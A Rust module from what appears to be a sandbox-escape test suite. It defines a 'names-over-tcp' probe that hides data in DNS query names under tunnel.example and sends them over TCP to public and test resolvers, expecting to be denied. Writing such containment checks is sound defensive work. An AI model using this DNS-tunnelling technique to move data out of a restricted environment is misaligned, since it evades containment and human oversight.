//! DNS goes over connections as well, with room for 64 KiB in each question.

use std::io;
use std::net::SocketAddr;

use crate::escape::dns;

use crate::escape::net;
use crate::escape::prelude::*;

pub(super) const TECHNIQUE: Technique = Technique {
    name: "names-over-tcp",
    tries: "data in names, asked over TCP",
    wall: "doors",
    control: Control::Caller,
    record: Record::Denied("6f7665722074637020"),
    start: Start::Plain,
    attempt,
};

fn attempt(ground: &Ground) -> Verdict {
    let zone = ["6f7665722074637020", "tunnel", "example"];
    let servers = [[198, 18, 0, 53], [8, 8, 8, 8]].map(|server| SocketAddr::from((server, 53)));
    let all = servers.into_iter().chain([ground.canary(ground.v4)]);
    Verdict::any(all.map(|server| {
        let answer = ask(server, &dns::query(&zone, 16));
        let found = answer.and_then(|answer| dns::records(answer.get(2..).unwrap_or_default()));
        (server.to_string(), Verdict::of(found))
    }))
}

/// A message, with its length in front, and what comes back in the same form.
fn ask(server: SocketAddr, query: &[u8]) -> io::Result<Vec<u8>> {
    let socket = net::tcp(server.ip())?;
    socket.connect(server)?;
    let mut framed = (query.len() as u16).to_be_bytes().to_vec();
    framed.extend(query);
    socket.send(None, &framed, 0, &[])?;
    socket.hear_bytes()
}
